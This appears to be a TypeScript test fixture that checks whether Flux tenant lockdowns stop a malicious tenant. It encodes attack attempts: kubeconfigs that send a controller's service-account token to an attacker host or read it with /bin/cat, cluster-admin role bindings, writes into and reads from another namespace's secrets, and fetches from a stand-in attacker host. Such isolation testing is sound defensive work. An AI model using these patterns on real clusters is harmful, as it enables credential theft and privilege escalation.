import { FETCHED, THIEF_HOST } from './clouds/thief';
import { Estate } from './estate';
import { ACCOUNT_TOKEN } from './pod';
import { Refused } from './refused';
import { Lockdown, THIEF, THIEVES_REPOSITORY, VICTIM } from './tenancy';
import { KubernetesObject } from '../conformance/kustomize';

/** What becomes of an attempt: Flux is Ready, or says why not. `taken`: it is not Ready, and the tenant has what he wants all the same. */
type Outcome = (Refused & { readonly taken?: boolean }) | undefined;

/** Something that is tried by a Flux object: by a tenant, or by the platform beside him. */
export interface Attempt {
  readonly title: string;
  readonly object: KubernetesObject;
  readonly seen: { readonly [lockdown in Lockdown]: Outcome };
  /** What is there when it succeeds, and not otherwise. */
  readonly made?: KubernetesObject;
}

const SPEC = { interval: '1h', timeout: '20s' };
type Spec = { readonly [field: string]: unknown };
const object = (apiVersion: string, kind: string, name: string, spec: Spec, namespace = THIEF): KubernetesObject =>
  ({ apiVersion, kind, metadata: { name, namespace }, spec });
export const kustomization = (name: string, spec: Spec, namespace?: string) => object('kustomize.toolkit.fluxcd.io/v1', 'Kustomization', name,
  { ...SPEC, prune: true, sourceRef: { kind: 'OCIRepository', name: 'own' }, postBuild: { substitute: { name } }, ...spec }, namespace);
const release = (name: string, spec: Spec, namespace?: string) => object('helm.toolkit.fluxcd.io/v2', 'HelmRelease', name, { ...SPEC, ...spec }, namespace);
const set = (name: string, spec: Spec) => object('fluxcd.controlplane.io/v1', 'ResourceSet', name, spec);
export const oci = (name: string, url: string, spec: Spec = {}, namespace?: string) => object('source.toolkit.fluxcd.io/v1', 'OCIRepository', name,
  { ...SPEC, provider: 'aws', url: `oci://${url}`, ref: { tag: 'v1' }, ...spec }, namespace);
const CHART = { ref: { tag: '0.1.0' }, layerSelector: { mediaType: 'application/vnd.cncf.helm.chart.content.v1.tar+gzip', operation: 'copy' } };

const clusterAdmin = (name: string): KubernetesObject => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'nobody' }],
});
const configMap = (namespace: string | undefined, name: string, annotations?: { readonly [name: string]: string }): KubernetesObject =>
  ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace, annotations } });

/** What the tenant commits to the repository that is his. */
export function thievesFiles(secrets: ReadonlyMap<string, string>): { readonly [path: string]: string } {
  const name = '${name}';
  return {
    'admin/binding.yaml': JSON.stringify(clusterAdmin(name)),
    'neighbour/applied.yaml': JSON.stringify(configMap(VICTIM, name)),
    'own/applied.yaml': JSON.stringify(configMap(undefined, name)),
    'file/kustomization.yaml': JSON.stringify({ resources: [`https://${THIEF_HOST}/file.yaml`] }),
    'base/kustomization.yaml': JSON.stringify({ resources: [`https://${THIEF_HOST}/repository//base?ref=main`], nameSuffix: '-base' }),
    'platform/secret.yaml': secrets.get('aws-controller')!,
    'namespace/namespace.yaml': JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name } }),
    'pod/pod.yaml': JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name }, spec: { serviceAccountName: 'flux-sops', containers: [{ name: 'one', image: 'one' }] } }),
  };
}

/** His charts: one makes its user cluster-admin. */
export const THIEVES_CHARTS = { 'teamb/chart': clusterAdmin('{{ .Release.Name }}'), 'teamb/plain': configMap(undefined, '{{ .Release.Name }}') };

/** What platform and victim have, and what the tenant's attempts refer to. */
export function surroundings(estate: Estate, address: string): { readonly theirs: KubernetesObject[]; readonly his: KubernetesObject[] } {
  const { controller, object: own } = estate.aws;
  const account = { serviceAccountName: 'flux' };
  const data = (kind: 'ConfigMap' | 'Secret', namespace: string, name: string, stringData: Spec): KubernetesObject =>
    ({ apiVersion: 'v1', kind, metadata: { name, namespace }, [kind === 'Secret' ? 'stringData' : 'data']: stringData });
  const kubeConfig = (user: object) => JSON.stringify({
    'apiVersion': 'v1',
    'kind': 'Config',
    'current-context': 'stolen',
    'contexts': [{ name: 'stolen', context: { cluster: 'stolen', user: 'stolen' } }],
    'clusters': [{ name: 'stolen', cluster: { 'server': 'tokenFile' in user ? `https://${THIEF_HOST}` : address, 'certificate-authority-data': '$CA' } }],
    'users': [{ name: 'stolen', user }],
  });
  return {
    theirs: [
      oci('apps', `${own.registry}/${own.repository}`, account, VICTIM),
      oci('chart', `${own.registry}/${own.chart}`, { ...account, ...CHART }, VICTIM),
      kustomization('apps', { ...account, path: './plain', sourceRef: { kind: 'OCIRepository', name: 'apps' }, targetNamespace: VICTIM }, VICTIM),
      release('release', { ...account, chartRef: { kind: 'OCIRepository', name: 'chart' } }, VICTIM),
      data('Secret', VICTIM, 'private', { password: 'hunter2' }),
      data('ConfigMap', VICTIM, 'private', { address: 'somewhere' }),
      object('source.toolkit.fluxcd.io/v1', 'HelmRepository', 'platform', { type: 'oci', provider: 'aws', url: `oci://${controller.registry}/platform` }, 'flux-system'),
      oci('platform', `${controller.registry}/platform/tenancy`, {}, 'flux-system'),
    ],
    his: [
      oci('own', `${own.registry}/${THIEVES_REPOSITORY}`, account),
      oci('own-chart', `${own.registry}/teamb/chart`, { ...account, ...CHART }),
      oci('plain-chart', `${own.registry}/teamb/plain`, { ...account, ...CHART }),
      object('source.toolkit.fluxcd.io/v1', 'HelmRepository', 'stolen', { type: 'oci', provider: 'aws', url: `oci://${controller.registry}/platform` }),
      { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'disguise', namespace: THIEF, annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/flux-object' } } },
      data('ConfigMap', THIEF, 'cluster', { provider: 'aws', cluster: controller.cluster }),
      ...['kustomize', 'helm'].map((name) => data('Secret', THIEF, `${name}-file`, { value: kubeConfig({ tokenFile: `$TOKEN/${name}-controller${ACCOUNT_TOKEN}` }) })),
      data('Secret', THIEF, 'kubeconfig-exec', { value: kubeConfig({ exec: { apiVersion: 'client.authentication.k8s.io/v1', command: '/bin/cat', args: [`$TOKEN/kustomize-controller${ACCOUNT_TOKEN}`], interactiveMode: 'Never' } }) }),
    ],
  };
}

const IN = undefined;
const says = (text: RegExp, denied?: RegExp): Refused => ({ says: text, denied });
const always = (outcome?: Outcome) => ({ none: outcome, kubernetes: outcome, workloadIdentity: outcome });
/** What every lockdown refuses. */
const locked = (refused: Refused) => ({ none: IN, kubernetes: refused, workloadIdentity: refused });
/** What only the lockdown refuses that covers clouds. */
const inClouds = (refused: Refused) => ({ none: IN, kubernetes: IN, workloadIdentity: refused });
/** What Kubernetes refuses an account of the tenant's namespace. */
const forbidden = (account: string, to: string) => says(new RegExp(`User "system:serviceaccount:${THIEF}:${account}" cannot \\w+ resource "${to}"`));
/** What the cloud refuses one of the roles. */
const mayNot = (role: string, what: string) => says(new RegExp(`flux-${role} may not ${what}`));
/** The tenant has the token of a controller, whatever Flux says of it. */
const taken = (controller: string): Outcome => ({ ...says(/thank you|unknown/, new RegExp(`TAKEN a token of system:serviceaccount:flux-system:${controller}`)), taken: true });
const UNTRUSTED = says(/the trust policy does not allow it/);
const NO_TOKEN = says(/source-controller" cannot create resource "serviceaccounts\/token"/);
const BLOCKED = says(/cross-namespace references (have been blocked|are not allowed)/);

/** Everything that is tried, with what is seen of it in Flux 2.9. */
export function attemptsOf(estate: Estate): readonly Attempt[] {
  const { controller, object: victim } = estate.aws;
  const account = { serviceAccountName: 'flux' };
  const own = { ...account, path: './own', targetNamespace: THIEF };
  const sops = { path: './platform', targetNamespace: THIEF };
  const ownChart = { chartRef: { kind: 'OCIRepository', name: 'own-chart' } };
  const remote = { kubeConfig: { configMapRef: { name: 'cluster' } } };
  const ofHelmRepository = (name: string, namespace?: string) => ({ chart: { spec: { chart: 'chart', version: '0.1.0', sourceRef: { kind: 'HelmRepository', name, namespace } } } });
  const inputs = (name: string, spec: Spec = {}) =>
    object('fluxcd.controlplane.io/v1', 'ResourceSetInputProvider', name, { type: 'ECRArtifactTag', url: `oci://${controller.registry}/${controller.repository}`, ...spec });
  const copied = (name: string) => configMap(THIEF, name, { 'fluxcd.controlplane.io/copyFrom': `${VICTIM}/private` });
  const depends = (kind: string, readyExpr: string) => ({ dependsOn: [{ apiVersion: 'v1', kind, name: 'private', namespace: VICTIM, ready: true, readyExpr }] });
  const fromPlatform = { path: './namespace', sourceRef: { kind: 'OCIRepository', name: 'platform' } };
  const namespace = (name: string): KubernetesObject => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name } });
  const kustomizations: Attempt[] = [
    { title: 'by the own account, in the own namespace', object: kustomization('k-own', own), seen: always(IN), made: configMap(THIEF, 'k-own') },
    { title: 'by no account, in the own namespace', object: kustomization('k-default', { ...own, serviceAccountName: undefined }), seen: always(IN), made: configMap(THIEF, 'k-default') },
    { title: 'by no account: a ClusterRoleBinding', object: kustomization('k-admin', { path: './admin' }), seen: locked(forbidden('flux', 'clusterrolebindings')), made: clusterAdmin('k-admin') },
    { title: 'by no account: into another namespace', object: kustomization('k-neighbour', { path: './neighbour' }), seen: locked(forbidden('flux', 'configmaps')), made: configMap(VICTIM, 'k-neighbour') },
    { title: 'by the own account: into another namespace', object: kustomization('k-own-neighbour', { ...account, path: './neighbour' }), seen: always(forbidden('flux', 'configmaps')), made: configMap(VICTIM, 'k-own-neighbour') },
    { title: 'by an account called like the controller\'s', object: kustomization('k-controller', { serviceAccountName: 'kustomize-controller', path: './admin' }), seen: always(forbidden('kustomize-controller', 'clusterrolebindings')), made: clusterAdmin('k-controller') },
    { title: 'by an account whose name has a namespace in it', object: kustomization('k-colon', { serviceAccountName: 'flux-system:kustomize-controller', path: './admin' }), seen: always(forbidden('flux-system:kustomize-controller', 'clusterrolebindings')), made: clusterAdmin('k-colon') },
    { title: 'of another namespace\'s source', object: kustomization('k-source', { ...account, path: './plain', sourceRef: { kind: 'OCIRepository', name: 'apps', namespace: VICTIM }, targetNamespace: THIEF }), seen: locked(BLOCKED), made: configMap(THIEF, 'applied') },
    { title: 'with a remote base (Git)', object: kustomization('k-base', { ...own, path: './base' }), seen: locked(says(/fs-security-constraint/)), made: configMap(THIEF, `${FETCHED}-base`) },
    { title: 'with a file that it fetches by HTTPS', object: kustomization('k-fetch', { ...own, path: './file' }), seen: always(IN), made: configMap(THIEF, FETCHED) },
    { title: 'that decrypts the platform\'s secret, by no account', object: kustomization('k-decrypt', { ...sops, decryption: { provider: 'sops' } }), seen: inClouds(mayNot('thief-sops', 'kms:Decrypt')), made: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'decrypted-aws', namespace: THIEF } } },
    { title: 'that decrypts it by an account annotated as another tenant\'s', object: kustomization('k-decrypt-disguise', { ...sops, decryption: { provider: 'sops', serviceAccountName: 'disguise' } }), seen: always(UNTRUSTED) },
    { title: 'to the platform\'s remote cluster, by no account', object: kustomization('k-remote', { ...remote, path: './own', targetNamespace: 'default' }), seen: { none: IN, kubernetes: forbidden('flux', 'configmaps'), workloadIdentity: mayNot('thief', 'eks:DescribeCluster') } },
    { title: 'with a kubeconfig that runs a program', object: kustomization('k-exec', { kubeConfig: { secretRef: { name: 'kubeconfig-exec' } }, path: './admin' }), seen: always(says(/failed to get server groups: unknown/)), made: clusterAdmin('k-exec') },
    { title: 'with a kubeconfig that names the file of the controller\'s token, for a server of his own', object: kustomization('k-file', { kubeConfig: { secretRef: { name: 'kustomize-file' } }, path: './admin' }), seen: always(taken('kustomize-controller')) },
    { title: 'that depends on another namespace\'s, and asks what it says', object: kustomization('k-depends', { ...own, dependsOn: [{ name: 'apps', namespace: VICTIM, readyExpr: "dep.spec.path == './plain'" }] }), seen: always(IN), made: configMap(THIEF, 'k-depends') },
  ];
  const releases: Attempt[] = [
    { title: 'by no account: a ClusterRoleBinding', object: release('h-admin', ownChart), seen: locked(forbidden('flux', 'clusterrolebindings')), made: clusterAdmin('h-admin') },
    { title: 'by the own account: a ClusterRoleBinding', object: release('h-own-admin', { ...account, ...ownChart }), seen: always(forbidden('flux', 'clusterrolebindings')), made: clusterAdmin('h-own-admin') },
    { title: 'by the own account, its state in another namespace', object: release('h-storage', { ...account, ...ownChart, storageNamespace: VICTIM }), seen: always(forbidden('flux', 'secrets')) },
    { title: 'of another namespace\'s OCIRepository', object: release('h-chart', { ...account, chartRef: { kind: 'OCIRepository', name: 'chart', namespace: VICTIM } }), seen: locked(BLOCKED), made: configMap(THIEF, 'h-chart') },
    { title: 'of another namespace\'s HelmRepository', object: release('h-repository', { ...account, ...ofHelmRepository('platform', 'flux-system') }), seen: locked({ ...BLOCKED, silently: true }), made: configMap(THIEF, 'h-repository') },
    { title: 'of the platform\'s chart, by an own HelmRepository', object: release('h-stolen', { ...account, ...ofHelmRepository('stolen') }), seen: always(IN), made: configMap(THIEF, 'h-stolen') },
    { title: 'to the platform\'s remote cluster, by no account', object: release('h-remote', { ...ownChart, ...remote }), seen: { none: IN, kubernetes: forbidden('flux', 'secrets'), workloadIdentity: mayNot('thief', 'eks:DescribeCluster') } },
    { title: 'with a kubeconfig that names the file of the controller\'s token, for a server of his own', object: release('h-file', { ...ownChart, kubeConfig: { secretRef: { name: 'helm-file' } } }), seen: always(taken('helm-controller')), made: clusterAdmin('h-file') },
    { title: 'that depends on another namespace\'s, and asks what it says', object: release('h-depends', { ...account, chartRef: { kind: 'OCIRepository', name: 'plain-chart' }, dependsOn: [{ name: 'release', namespace: VICTIM, readyExpr: "dep.spec.chartRef.name == 'chart'" }] }), seen: always(IN), made: configMap(THIEF, 'h-depends') },
  ];
  const sources: Attempt[] = [
    { title: 'OCIRepository: the platform\'s repository, by no account', object: oci('s-platform', `${controller.registry}/${controller.repository}`), seen: inClouds(mayNot('thief', 'ecr:BatchGetImage')) },
    { title: 'Bucket: the platform\'s, by no account', object: object('source.toolkit.fluxcd.io/v1', 'Bucket', 's-bucket', { ...SPEC, provider: 'aws', region: 'eu-west-1', bucketName: controller.bucket, endpoint: controller.endpoint }), seen: inClouds(says(/Access Denied/, /DENY \S+role\/flux-thief s3:ListBucket/)) },
    { title: 'OCIRepository: the own repository, by no account', object: oci('s-default', `${victim.registry}/${THIEVES_REPOSITORY}`), seen: { none: mayNot('controller', 'ecr:BatchGetImage'), kubernetes: mayNot('controller', 'ecr:BatchGetImage'), workloadIdentity: IN } },
    { title: 'OCIRepository: another tenant\'s repository, by the own account', object: oci('s-victim', `${victim.registry}/${victim.repository}`, account), seen: always(mayNot('thief', 'ecr:BatchGetImage')) },
    { title: 'OCIRepository: the same, by an account annotated as the other tenant\'s', object: oci('s-disguise', `${victim.registry}/${victim.repository}`, { serviceAccountName: 'disguise' }), seen: { none: UNTRUSTED, kubernetes: NO_TOKEN, workloadIdentity: NO_TOKEN } },
  ];
  const sets: Attempt[] = [
    { title: 'by no account: a ClusterRoleBinding', object: set('r-admin', { resources: [clusterAdmin('r-admin')] }), seen: locked(forbidden('flux-operator', 'clusterrolebindings')), made: clusterAdmin('r-admin') },
    { title: 'by the own account, in the own namespace', object: set('r-own', { ...account, resources: [configMap(THIEF, 'r-own')] }), seen: always(IN), made: configMap(THIEF, 'r-own') },
    { title: 'by the own account: into another namespace', object: set('r-neighbour', { ...account, resources: [configMap(VICTIM, 'r-neighbour')] }), seen: always(forbidden('flux', 'configmaps')), made: configMap(VICTIM, 'r-neighbour') },
    { title: 'by no account: copies another namespace\'s ConfigMap', object: set('r-copy', { resources: [copied('r-copy')] }), seen: locked(forbidden('flux-operator', 'configmaps')), made: configMap(THIEF, 'r-copy') },
    { title: 'by the own account: copies another namespace\'s ConfigMap', object: set('r-own-copy', { ...account, resources: [copied('r-own-copy')] }), seen: always(forbidden('flux', 'configmaps')), made: configMap(THIEF, 'r-own-copy') },
    { title: 'that depends on another namespace\'s ConfigMap, and asks what it says', object: set('r-depends', { ...account, ...depends('ConfigMap', "data.address == 'somewhere'"), resources: [configMap(THIEF, 'r-depends')] }), seen: always(IN), made: configMap(THIEF, 'r-depends') },
    { title: 'that depends on another namespace\'s Secret, and asks what it says', object: set('r-depends-secret', { ...account, ...depends('Secret', "data.password != ''"), resources: [configMap(THIEF, 'r-depends-secret')] }), seen: always(says(/no such attribute\(s\): data.password/)), made: configMap(THIEF, 'r-depends-secret') },
  ];
  const providers: Attempt[] = [
    { title: 'of the platform\'s repository, by no account', object: inputs('i-platform'), seen: inClouds(says(/the specified default service account does not exist in the object namespace/)) },
    { title: 'of the platform\'s repository, by the own account', object: inputs('i-own', account), seen: always(mayNot('thief', 'ecr:ListImages')) },
  ];
  const platform: Attempt[] = [
    { title: 'its Kustomization by the account `kustomize-controller`: a Namespace', object: kustomization('p-controller', { ...fromPlatform, serviceAccountName: 'kustomize-controller' }, 'flux-system'), seen: always(IN), made: namespace('p-controller') },
    { title: 'its Kustomization by no account: a Namespace', object: kustomization('p-default', fromPlatform, 'flux-system'), seen: locked(says(/User "system:serviceaccount:flux-system:flux" cannot \w+ resource "namespaces"/)), made: namespace('p-default') },
    { title: 'its OCIRepository by no account', object: oci('p-source', `${controller.registry}/platform/tenancy`, {}, 'flux-system'), seen: always(IN) },
  ];
  const titled = (prefix: string, attempts: readonly Attempt[]) => attempts.map((each) => ({ ...each, title: `${prefix} ${each.title}` }));
  return [...titled('Kustomization', kustomizations), ...titled('HelmRelease', releases), ...sources, ...titled('ResourceSet', sets), ...titled('ResourceSetInputProvider', providers), ...titled('the platform:', platform)];
}
